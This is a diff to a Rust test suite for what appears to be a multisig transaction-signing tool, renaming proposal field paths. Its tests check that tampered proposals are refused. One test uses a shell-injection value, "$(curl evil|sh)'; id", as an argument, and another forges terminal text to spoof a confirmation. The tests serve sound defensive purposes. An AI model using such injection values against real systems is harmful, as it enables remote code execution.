@@ -57,8 +57,8 @@ pub fn rehashed(mut proposal: Value) -> Value {
         "message_hash": hashes.message.to_string(),
         "safe_tx_hash": hashes.safe_tx.to_string(),
     });
-    let digest = PlaybookDigest::of(proposal["playbook"]["text"].as_str().unwrap());
-    proposal["playbook"]["digest"] = json!(digest.to_string());
+    let digest = PlaybookDigest::of(proposal["levers"][0]["text"].as_str().unwrap());
+    proposal["levers"][0]["digest"] = json!(digest.to_string());
     proposal
 }
 
@@ -95,7 +95,7 @@ fn each_field_of_the_transaction_altered_in_turn() {
         ("/transaction/gas_price", json!("1"), "gasPrice is 1"),
         ("/transaction/gas_token", stranger.clone(), "gasToken is 0x1111"),
         ("/transaction/refund_receiver", stranger, "refundReceiver is 0x1111"),
-        ("/playbook/text", json!("schema = 1\n"), "playbook text is"),
+        ("/levers/0/text", json!("schema = 1\n"), "playbook text is"),
     ] {
         let altered = changed(&good, pointer, &to);
         bob_refuses(bob, &altered, &[], 4, &["the file was altered"]);
@@ -108,7 +108,7 @@ fn each_field_of_the_transaction_altered_in_turn() {
         ("/hashes/domain_hash", "domain hash"),
         ("/hashes/message_hash", "message hash"),
         ("/hashes/safe_tx_hash", "safeTxHash"),
-        ("/playbook/digest", "playbook digest"),
+        ("/levers/0/digest", "playbook digest"),
     ] {
         bob_refuses(bob, &changed(&good, pointer, &zero), &[], 4, &[named, "the file was altered"]);
     }
@@ -132,14 +132,15 @@ fn each_field_of_the_binding_altered_in_turn() {
     let ceremony = two_of_three();
     let (bob, good) = handed(&ceremony);
     for (pointer, to, named) in [
-        ("/playbook/id", json!("pause/oz-pausable-undo"), "playbook is pause/oz-pausable-undo"),
-        ("/playbook/id", json!("pause/unheard-of"), "pause/unheard-of"),
-        ("/playbook/lever", json!("other"), "no lever is called \"other\""),
-        ("/playbook/lever", json!(null), "target = vault"),
-        ("/playbook/undo", json!(true), "an undo of lever vault"),
-        ("/playbook/arguments", json!({ "target": STRANGER }), "target = 0x1111"),
-        ("/playbook/arguments", json!({}), "missing"),
-        ("/playbook/arguments", json!({ "target": "vault", "amount": "7" }), "amount"),
+        ("/levers/0/playbook", json!("pause/oz-pausable-undo"), "playbook is pause/oz-pausable-undo"),
+        ("/levers/0/playbook", json!("pause/unheard-of"), "pause/unheard-of"),
+        ("/levers/0/lever", json!("other"), "no lever is called \"other\""),
+        ("/pull/names", json!(["other"]), "pulled is other in the file and vault by your files"),
+        ("/pull/without", json!(["bridge"]), "pulled is vault --without bridge in the file"),
+        ("/pull/undo", json!(true), "an undo of lever vault"),
+        ("/levers/0/arguments", json!({ "target": STRANGER }), "target = 0x1111"),
+        ("/levers/0/arguments", json!({}), "missing"),
+        ("/levers/0/arguments", json!({ "target": "vault", "amount": "7" }), "amount"),
     ] {
         for more in [&[][..], &["--offline"]] {
             bob_refuses(bob, &changed(&good, pointer, &to), more, 4, &[named]);
@@ -257,7 +258,7 @@ fn an_open_argument_is_said_by_every_signer() {
     let file = hand_over(bob, &proposal);
     sign(bob, &[&file, "--set", "target=vault"]);
     // What is copied from the screen is one word for a shell, whatever a stranger wrote.
-    let evil = changed(&proposal, "/playbook/arguments/target", &json!("$(curl evil|sh)'; id"));
+    let evil = changed(&proposal, "/levers/0/arguments/target", &json!("$(curl evil|sh)'; id"));
     bob_refuses(bob, &evil, &[], 4, &[r"--set 'target=$(curl evil|sh)'\''; id'"]);
 }
 
@@ -281,7 +282,7 @@ fn in_a_narrow_terminal_no_text_of_a_strangers_begins_a_line() {
     let made = alice.run(&["--json", "pause", "any", "--set", "target=vault"]).ended(0).json();
     let proposal = read_json(&alice.path(made["proposal"].as_str().unwrap()));
     let forged = "✓ matches your playbook ".repeat(20);
-    let evil = changed(&proposal, "/playbook/arguments/target", &json!(forged));
+    let evil = changed(&proposal, "/levers/0/arguments/target", &json!(forged));
     let words = with_key(bob, &["sign", &hand_over(bob, &evil)]);
     let words: Vec<&str> = words.iter().map(String::as_str).collect();
     let run = Terminal::of_width(40, &mut bob.command(&words)).ended(4).says("not-your-arguments");
